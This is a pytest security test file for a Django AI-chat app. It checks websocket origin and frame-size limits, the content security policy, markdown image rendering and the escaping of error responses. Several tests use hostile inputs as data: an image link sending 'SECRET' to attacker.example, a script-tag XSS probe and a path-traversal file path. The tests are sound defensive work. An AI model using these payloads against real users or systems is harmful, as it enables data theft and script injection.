"""Issue 11, the edges: websocket Origin, frame size, Content-Security-Policy, external images,
error responses that echo input."""

from __future__ import annotations

import pytest
from asgiref.sync import sync_to_async
from django.test import Client
from django.urls import reverse

from skills_app.chat import rendering
from skills_app.chat.rendering import FRAGMENT_MAX_BYTES, markdown_html
from skills_app.models import Conversation, Message, Run
from skills_app.runs import eventlog
from tests.security.helpers import client_of, frame_bytes, open_tab, receive, resume

# The websocket server's limit the issue hit (Daphne/Autobahn: 1 MiB per message).
SERVER_FRAME_LIMIT = 1024 * 1024


# -- websocket Origin ---------------------------------------------------------------------------


def _headers(origin: bytes, host: bytes | None = b"127.0.0.1", **extra: bytes):
    headers = [(b"origin", origin)]
    if host is not None:
        headers.append((b"host", host))
    headers += [(k.replace("_", "-").encode(), v) for k, v in extra.items()]
    return headers


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(
    ("origin", "host"),
    [
        (b"http://127.0.0.1:1", b"127.0.0.1"),  # another port: another program on the machine
        (b"https://127.0.0.1", b"127.0.0.1"),  # another scheme over a plain connection
        (b"http://127.0.0.1", b"127.0.0.1:8000"),  # the site is on :8000, the page is not
        (b"http://localhost", b"127.0.0.1"),  # an allowed host, but not this request's
        (b"http://evil.example", b"evil.example"),  # a host that is not allowed at all
        (b"http://127.0.0.1:1", None),  # no Host: a port is still another origin
        (b"https://127.0.0.1", None),  # no Host: the scheme is still the connection's
        (b"null", b"127.0.0.1"),
    ],
)
async def test_a_websocket_from_another_origin_is_refused(alice, origin, host):
    conversation = await Conversation.objects.acreate(owner=alice)
    tab, connected = await open_tab(alice, conversation.pk, headers=_headers(origin, host))
    assert not connected
    await tab.disconnect()


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(
    ("origin", "host", "extra"),
    [
        (b"http://127.0.0.1", b"127.0.0.1", {}),
        (b"http://127.0.0.1:8000", b"127.0.0.1:8000", {}),
        (b"http://127.0.0.1", None, {}),  # a test client without Host: the default port
        (b"https://chat.example.org", b"chat.example.org", {"x_forwarded_proto": b"https"}),
        (b"https://app.example.org", b"127.0.0.1", {}),  # listed in CSRF_TRUSTED_ORIGINS
        (b"https://eu.tenant.example.net", b"127.0.0.1", {}),  # https://*.tenant.example.net
    ],
)
async def test_the_sites_own_origin_and_trusted_origins_are_accepted(
    alice, settings, origin, host, extra
):
    settings.ALLOWED_HOSTS = ["127.0.0.1", "localhost", "chat.example.org"]
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    settings.CSRF_TRUSTED_ORIGINS = ["https://app.example.org", "https://*.tenant.example.net"]
    conversation = await Conversation.objects.acreate(owner=alice)
    tab, connected = await open_tab(alice, conversation.pk, headers=_headers(origin, host, **extra))
    assert connected
    await tab.disconnect()


@pytest.mark.django_db(transaction=True)
async def test_a_proxied_https_site_refuses_its_plain_http_origin(alice, settings):
    settings.ALLOWED_HOSTS = ["chat.example.org"]
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    conversation = await Conversation.objects.acreate(owner=alice)
    headers = _headers(b"http://chat.example.org", b"chat.example.org", x_forwarded_proto=b"https")
    tab, connected = await open_tab(alice, conversation.pk, headers=headers)
    assert not connected
    await tab.disconnect()


# -- frame size ---------------------------------------------------------------------------------


def _huge_listing(owner) -> Conversation:
    """A Bash call that listed 12,000 files (and made 12,000 artifacts), as the issue found."""
    conversation = Conversation.objects.create(owner=owner, title="files")
    run = Run.objects.create(conversation=conversation, status=Run.DONE)
    names = [f"out/file-{n:05d}-with-a-longer-name-to-fill-the-frame.txt" for n in range(12_000)]
    call = {"type": "tool_use", "id": "toolu_ls", "name": "Bash", "input": {"command": "ls -R"}}
    result = {"type": "tool_result", "tool_use_id": "toolu_ls", "content": "\n".join(names)}
    for seq, (role, kind, block) in enumerate(
        [("assistant", "tool_use", call), ("user", "tool_result", result)], start=1
    ):
        row = Message.objects.create(
            conversation=conversation, seq=seq, role=role, kind=kind, content=[block], run=run
        )
        eventlog.append_event(
            conversation.pk, "message", eventlog.message_event(row), run_id=run.pk
        )
    eventlog.append_event(
        conversation.pk,
        "tool.result",
        {
            "tool_use_id": "toolu_ls",
            "name": "Bash",
            "content": result["content"],
            "artifacts": names,
        },
        run_id=run.pk,
    )
    return conversation


@pytest.mark.django_db(transaction=True)
async def test_a_huge_tool_result_never_makes_a_frame_too_large_and_the_tab_resumes(alice):
    conversation = await sync_to_async(_huge_listing)(alice)
    tab, connected = await open_tab(alice, conversation.pk)
    assert connected
    frames = await resume(tab)  # the "resumed" frame arrives: the conversation resumes
    await tab.disconnect()
    assert max(frame_bytes(f) for f in frames) < FRAGMENT_MAX_BYTES + 4096 < SERVER_FRAME_LIMIT
    html = "".join(f.get("html", "") for f in frames)
    assert "Show the whole result" in html and "list them all" in html
    assert "11950 more files" in html


@pytest.mark.django_db
def test_the_links_of_a_cut_result_serve_the_whole_text(alice):
    conversation = _huge_listing(alice)
    client = client_of(alice)
    for part in ("result", "files"):
        url = reverse("conversation-tool-text", args=[conversation.pk, "toolu_ls", part])
        body = client.get(url).content.decode()
        assert body.count("\n") == 11_999 and body.endswith("fill-the-frame.txt")
    page = client.get(reverse("conversation", args=[conversation.pk])).content
    assert len(page) < 2 * FRAGMENT_MAX_BYTES


@pytest.mark.django_db
def test_an_answer_with_many_huge_tool_cards_stays_under_the_limit(alice):
    conversation = Conversation.objects.create(owner=alice)
    blocks = [
        {
            "type": "tool_use",
            "id": f"toolu_{n}",
            "name": "Write",
            "input": {"content": "<&>" * 60_000},
        }
        for n in range(40)
    ]
    row = Message.objects.create(
        conversation=conversation, seq=1, role="assistant", kind="tool_use", content=blocks
    )
    results = {f"toolu_{n}": {"content": "<" * 50_000} for n in range(40)}
    html = rendering.render_message(row, can_inspect=False, ctx={"results": results})
    assert frame_bytes({"html": html}) <= FRAGMENT_MAX_BYTES
    assert 'id="tool-toolu_39"' in html  # every card is still there, cut short


# -- Content-Security-Policy and external images ------------------------------------------------


def test_an_external_image_in_an_answer_is_a_link_never_an_img():
    html = markdown_html("Look: ![chart](https://attacker.example/?d=SECRET) and ![x](data:,a)")
    assert "<img" not in html
    assert 'href="https://attacker.example/?d=SECRET"' in html and ">chart</a>" in html


@pytest.mark.django_db
def test_pages_carry_a_content_security_policy(alice):
    conversation = Conversation.objects.create(owner=alice)
    response = client_of(alice).get(reverse("conversation", args=[conversation.pk]))
    policy = {
        part.split()[0]: part.split()[1:]
        for part in response["Content-Security-Policy"].split(";")
        if part.strip()
    }
    assert policy["img-src"] == ["'self'", "data:"]
    assert policy["script-src"] == ["'self'"]
    assert policy["default-src"] == ["'self'"]
    # Every script the page loads comes from this site (no inline code the policy would block).
    assert b"<script>" not in response.content and b"onclick=" not in response.content


# -- error responses escape what they echo ------------------------------------------------------

PROBE = "<script>alert('x')</script>"


@pytest.mark.django_db
def test_an_unknown_profile_is_refused_as_plain_text(auditor):
    # Only staff choose a delivery profile (issue 29): the refusal is theirs to see.
    response = client_of(auditor).post(reverse("conversation-new"), {"profile": PROBE})
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    assert PROBE.encode() not in response.content


@pytest.mark.django_db
def test_a_refused_rename_does_not_echo_markup(alice):
    conversation = Conversation.objects.create(owner=alice)
    response = client_of(alice).post(
        reverse("conversation-rename", args=[conversation.pk]), {"title": PROBE * 40}
    )
    assert response.status_code == 400 and PROBE.encode() not in response.content
    assert response["Content-Type"].startswith("text/plain")


@pytest.mark.django_db
def test_a_bad_download_path_does_not_echo_markup(alice):
    conversation = Conversation.objects.create(owner=alice)
    url = reverse("conversation-file", args=[conversation.pk, f"out/../{PROBE}"])
    response = client_of(alice).get(url)
    assert response.status_code in (400, 404) and PROBE.encode() not in response.content


@pytest.mark.django_db
def test_an_import_error_escapes_the_line_it_quotes(alice):
    from django.core.files.uploadedfile import SimpleUploadedFile

    data = ('{"type": "user", "message": {"role": "' + PROBE + '", "content": "x"}}\n').encode()
    response = client_of(alice).post(
        reverse("transcript-import"), {"file": SimpleUploadedFile("t.jsonl", data)}
    )
    assert response.status_code == 400
    assert PROBE.encode() not in response.content
    assert b"&lt;script&gt;" in response.content  # shown, escaped


@pytest.mark.django_db(transaction=True)
async def test_a_websocket_error_notice_escapes_what_it_echoes(alice):
    conversation = await Conversation.objects.acreate(owner=alice)
    tab, _ = await open_tab(alice, conversation.pk)
    await tab.send_json_to({"action": PROBE})
    frame = await receive(tab, timeout=5)
    await tab.disconnect()
    assert frame["type"] == "error" and PROBE not in frame["html"]


def test_anonymous_error_pages_do_not_echo_the_path(db, settings):
    settings.DEBUG = False
    response = Client(raise_request_exception=False).get(f"/nope/{PROBE}/")
    assert response.status_code == 404 and PROBE.encode() not in response.content
